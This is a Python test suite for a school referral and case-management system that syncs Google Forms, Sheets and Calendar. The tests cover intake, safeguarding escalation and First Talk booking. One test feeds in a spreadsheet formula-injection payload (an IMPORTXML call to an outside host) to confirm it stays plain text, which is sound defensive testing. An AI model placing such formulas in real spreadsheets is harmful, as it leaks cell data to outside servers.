"""Journeys 1 and 2: a referral comes in, is answered, decided, and a First Talk is booked."""

from __future__ import annotations

import re

from tests.school_fixture import DANA, ROOT, LiveSchool, questions

NORA = "nora.lind@alder-creek.example"
RUTH = "ruth.adeyemi@alder-creek.example"


def refer_thandi(live: LiveSchool) -> None:
    live.refer(
        person=NORA,
        student_name="Thandi Dlamini",
        grade="11",
        concern="Falls asleep in maths.",
        relationship="I work at this school",
    )


def test_one_response_becomes_one_row_one_answer_and_a_suggestion(small: LiveSchool) -> None:
    refer_thandi(small)
    small.sync()
    row = small.find("office", "Referrals", Referral_ID="R-0001")
    assert row["Student"] == "Thandi Dlamini"
    assert row["Concern"] == "Falls asleep in maths."
    assert row["Suggested"] in ("Dana Whitfield", "Tomás Herrera")
    assert "of 20" in row["Why"]
    assert row["Tell referrer"] == "Progress"
    assert row["Acknowledged"]
    (mail,) = small.mails(NORA)
    assert mail["Subject"] == "We received your message · R-0001"
    assert mail["text"].index("988") < mail["text"].index("student-support coordinator")
    assert "Thandi" not in str(mail)
    again = small.sync()
    assert not again.changes
    assert len(small.mails(NORA)) == 1


def test_a_safety_yes_goes_to_restricted_and_at_once_to_the_lead(small: LiveSchool) -> None:
    small.refer(
        person=NORA,
        danger="Yes",
        student_name="Zoë O'Brien",
        concern="Is afraid to go home tonight.",
    )
    small.sync()
    office = small.find("office", "Referrals", Referral_ID="R-0001")
    assert office["Status"] == "held by safeguarding"
    assert "Zoë" not in str(office)
    assert "afraid" not in str(office)
    held = small.find("restricted", "Safety referrals", Referral_ID="R-0001")
    assert held["Concern"] == "Is afraid to go home tonight."
    (alert,) = small.mails(RUTH)
    assert alert["Subject"] == "Please read today · R-0001"
    assert "Zoë" not in str(alert)
    (event,) = small.events(RUTH)
    assert event["summary"] == "Please read today · R-0001"
    assert not small.sync().changes


def test_accept_opens_the_case_and_books_a_first_talk_in_a_free_slot(small: LiveSchool) -> None:
    busy = {
        "summary": "Assembly",
        "start": {"dateTime": "2026-10-05T08:00:00-04:00"},
        "end": {"dateTime": "2026-10-05T15:00:00-04:00"},
    }
    small.google(f"/calendar/v3/calendars/{DANA}/events", DANA, "POST", busy)
    refer_thandi(small)
    small.sync()
    small.change(
        "office",
        "Referrals",
        {"Referral ID": "R-0001"},
        {"Decision": "Accept", "Case manager": "Dana Whitfield"},
    )
    report = small.sync()
    assert report.changes["create_event"] == 1
    case = small.find("caseload", "Caseload", Student="Thandi Dlamini")
    assert case["Case code"] == "C-0002"
    assert case["Case manager"] == DANA
    assert case["Student ID"] == "00555"
    referral = small.find("office", "Referrals", Referral_ID="R-0001")
    assert referral["Status"] == "Accepted · C-0002"
    talk = small.find("caseload", "Diary", Kind="First Talk")
    event = next(e for e in small.events(DANA) if "First Talk" in e["summary"])
    assert event["summary"] == "First Talk · C-0002"
    assert "2026-10-06T08" in event["start"]["dateTime"]
    assert event["extendedProperties"]["private"]["holdfast"] == talk["Row ID"]
    assert event["reminders"]["overrides"]
    assert "/spreadsheets/d/" in event["description"]
    links = re.findall(r"https?://\S+", event["description"])
    caseload = small.found["workbooks"]["caseload"]
    # Only the row: behind the service's own address IAM lets no browser in.
    assert [link.partition("#gid")[0] for link in links] == [
        f"{ROOT}/spreadsheets/d/{caseload}/edit"
    ]
    assert [m["Subject"] for m in small.mails(NORA)].count("We received your message · R-0001") == 1
    assert len(small.mails(NORA)) == 2  # received, assigned
    assert not small.sync().changes


def test_a_second_referral_of_an_open_case_joins_it(small: LiveSchool) -> None:
    small.refer(
        person=NORA, student_name="Ana Silva", concern="x", relationship="I work at this school"
    )
    small.sync()
    assert "C-0001" in small.find("office", "Referrals", Referral_ID="R-0001")["Already open"]
    small.change("office", "Referrals", {"Referral ID": "R-0001"}, {"Decision": "Accept"})
    small.sync()
    assert len(small.rows("caseload", "Caseload")) == 1
    assert "C-0001" in small.find("office", "Referrals", Referral_ID="R-0001")["Status"]
    assert any("C-0001" in mail["Subject"] for mail in small.mails(DANA))


def test_an_unknown_name_is_asked_about_and_settled_by_pick(small: LiveSchool) -> None:
    small.refer(person=NORA, student_name="Tandi Dlamin", concern="x")
    small.refer(person=NORA, student_name="The boy with the bicycle", concern="y")
    small.sync()
    asked = [row for row in questions(small, "office") if "R-0002" in row["What"]]
    assert len(asked) == 1
    assert asked[0]["Whose"] == "Maren Okafor"
    assert "range=" in asked[0]["Link"]
    small.change("office", "Referrals", {"Referral ID": "R-0002"}, {"Student": "Zoë O'Brien"})
    small.sync()
    assert not [row for row in questions(small, "office") if "R-0002" in row["What"]]


def test_hostile_text_stays_text(small: LiveSchool) -> None:
    formula = '=IMPORTXML("https://example.com/"&A1,"//a")'
    small.refer(person=NORA, student_name="Ana Silva", concern=formula)
    small.sync()
    assert small.find("office", "Referrals", Referral_ID="R-0001")["Concern"] == formula


def test_an_edited_response_updates_its_row(small: LiveSchool) -> None:
    token = small.refer("outside", student_name="Ana Silva", concern="first")
    small.sync()
    small.change("office", "Referrals", {"Referral ID": "R-0001"}, {"Reason": "ours"})
    small.later(hours=1)
    small.refer("outside", edit=token, student_name="Ana Silva", concern="second")
    small.sync()
    row = small.find("office", "Referrals", Referral_ID="R-0001")
    assert row["Concern"] == "second"
    assert row["Reason"] == "ours"
    assert not small.sync().changes


def test_another_country_on_settings_changes_whom_the_forms_and_mails_name(
    small: LiveSchool,
) -> None:
    small.change("office", "Settings", {"Setting": "Country"}, {"Value": "GB"})
    assert small.sync().changes["refresh_form"] == 2
    form = small.google(f"/v1/forms/{small.found['forms']['outside']}", small.found["admin"])
    assert "999" in form["info"]["description"]
    assert "988" not in str(form)
    refer_thandi(small)
    small.sync()
    assert "116 123" in small.mails(NORA)[0]["text"]
    assert not small.sync().changes
